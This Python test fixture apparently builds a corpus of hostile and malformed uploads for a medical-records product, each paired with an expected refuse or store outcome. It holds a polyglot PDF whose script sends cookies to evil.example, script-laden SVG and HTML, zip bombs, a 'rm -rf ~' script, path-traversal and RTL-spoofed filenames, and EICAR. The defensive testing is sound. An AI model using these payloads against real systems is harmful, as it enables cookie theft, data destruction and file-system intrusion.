"""A corpus of bad inputs, each made in code at run time (no binary blobs in the repository).

Files: what a careless or hostile uploader may send, each with what the product must do with it:
REFUSE it with a message, or STORE it flagged (quarantined, waiting for its scan, or "could not
read") and only ever hand it out as a download. Form values: what a browser, a script or a
broken client may put in a text field.
"""

import io
import zipfile
from dataclasses import dataclass

from tests.factories import MINIMAL_PDF
from tests.records.conftest import EICAR

REFUSE, STORE = "refuse", "store"


@dataclass(frozen=True)
class BadFile:
    key: str
    name: str
    content: bytes
    expect: str  # REFUSE or STORE
    # Words the refusal shows (REFUSE), so that a test can tell a clear message from any error.
    says: str = ""
    # For STORE: the stored record is quarantined once clamd has scanned it.
    infected: bool = False
    # For STORE: reading it must flag it "could not read", never fail.
    unreadable: bool = False
    # Set when a resumable upload refuses the name it announces, saying this.
    tus_refusal: str = ""


def _zip(entries: dict[str, bytes]) -> bytes:
    """Small entries stored, large ones deflated (libmagic recognises Office files by the
    names of their first, stored, entries)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, data in entries.items():
            if len(data) < 1024:
                zf.writestr(name, data, compress_type=zipfile.ZIP_STORED)
            else:
                zf.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """A small zip that inflates to 16 MiB of zeros (kept modest: the point is the shape)."""
    return _zip({"records.txt": bytes(16 * 1024 * 1024)})


def docx_bomb() -> bytes:
    """A zip that libmagic calls a Word document, with a part that inflates to 16 MiB."""
    return _zip(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/content-types"/>',
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": bytes(16 * 1024 * 1024),
        }
    )


def polyglot_pdf_html() -> bytes:
    """Starts as a PDF (so libmagic says PDF) and carries an HTML page with a script."""
    return (
        MINIMAL_PDF
        + b"<html><body><script>document.location='https://evil.example/?'+document.cookie"
        b"</script></body></html>\n"
    )


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>\n"
)
HTML_PAGE = b"<!DOCTYPE html><html><head><script>alert(1)</script></head><body>hi</body></html>\n"
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(120)
ELF_PROGRAM = (
    b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(96)
)
SHELL_SCRIPT = b"#!/bin/sh\nrm -rf ~\n"
# A DICOM preamble and magic, then garbage where the data elements should be.
MALFORMED_DICOM = bytes(128) + b"DICM" + b"\x02\x00\x10\x00UI\xff\xff" + b"\xde\xad\xbe\xef" * 64
# A PDF header and then nothing a PDF reader can use (no objects, no xref, no trailer).
MALFORMED_PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"\x00\xff garbage stream " * 200
# Over the size limit the tests set (settings.RECORD_MAX_UPLOAD_BYTES = OVER_SIZE_LIMIT).
OVER_SIZE_LIMIT = 256 * 1024
OVER_SIZE = MINIMAL_PDF + b"%" + b"x" * OVER_SIZE_LIMIT + b"\n"


FOLDER_PATH = "was sent with a folder path we can't accept"


def _pdf(tag: str) -> bytes:
    """A readable PDF whose bytes (and so SHA-256) are its own."""
    return MINIMAL_PDF + f"% {tag}\n".encode()


BAD_FILES: tuple[BadFile, ...] = (
    BadFile("eicar", "lab-results.txt", EICAR, STORE, infected=True),
    BadFile("polyglot-pdf-html", "letter.pdf", polyglot_pdf_html(), STORE),
    BadFile("svg-with-script", "xray.svg", SVG_WITH_SCRIPT, REFUSE, "not a file type we accept"),
    BadFile("html-as-pdf", "report.pdf", HTML_PAGE, REFUSE, "not a file type we accept"),
    BadFile("zip-bomb", "records.zip", zip_bomb(), REFUSE, "not a file type we accept"),
    # Word documents are zips: one that would inflate hugely is stored and never unpacked.
    BadFile("docx-bomb", "notes.docx", docx_bomb(), STORE),
    BadFile("exe-as-pdf", "discharge.pdf", WINDOWS_PROGRAM, REFUSE, "not a file type we accept"),
    BadFile("elf-as-pdf", "scan.pdf", ELF_PROGRAM, REFUSE, "not a file type we accept"),
    BadFile("script-as-pdf", "summary.pdf", SHELL_SCRIPT, REFUSE, "not a file type we accept"),
    BadFile("zero-bytes", "empty.pdf", b"", REFUSE, "is empty (0 bytes)"),
    BadFile("over-size", "huge.pdf", OVER_SIZE, REFUSE, "is larger than the"),
    # The right-to-left override would show "invoice‮fdp.exe" as "invoiceexe.pdf".
    BadFile("rtl-name", "invoice\u202efdp.exe", _pdf("rtl"), STORE),
    BadFile("unicode-name", "Ärztebrief 診断書 🩺.pdf", _pdf("unicode"), STORE),
    BadFile(
        "traversal-name",
        "../../../etc/passwd.pdf",
        _pdf("traversal"),
        STORE,
        tus_refusal=FOLDER_PATH,
    ),
    BadFile(
        "windows-traversal-name",
        "..\\..\\boot.ini.pdf",
        _pdf("windows"),
        STORE,
        tus_refusal=FOLDER_PATH,
    ),
    BadFile(
        "control-chars-name",
        "scan\x1b[31m\x07.pdf",
        _pdf("control"),
        STORE,
        tus_refusal=FOLDER_PATH,
    ),
    BadFile("null-byte-name", "scan\x00.exe.pdf", _pdf("null"), STORE, tus_refusal=FOLDER_PATH),
    BadFile("malformed-dicom", "ct.dcm", MALFORMED_DICOM, STORE, unreadable=True),
    BadFile("malformed-pdf", "broken.pdf", MALFORMED_PDF, STORE, unreadable=True),
)

# Names a resumable (tus) upload may announce: refused before a byte is sent.
BAD_TUS_NAMES = (
    "../../../etc/passwd",
    "/etc/shadow",
    "..\\..\\windows\\system32\\cmd.exe",
    "scan\x00.pdf",
    "scan\n.pdf",
)

# What may be typed (or scripted) into any text field.
ONE_MEGABYTE = "A" * (1024 * 1024)
NULL_BYTES = "before\x00after"
INVALID_UTF8 = b"\xff\xfe\xc3\x28 \xa0\xa1 \xed\xa0\x80"  # stray, overlong and surrogate bytes
FORM_VALUES = {"one-megabyte": ONE_MEGABYTE, "null-bytes": NULL_BYTES}
# Typed into the fields next to the bad one: it must come back on the page when it is refused.
KEPT = "Kept-4711"
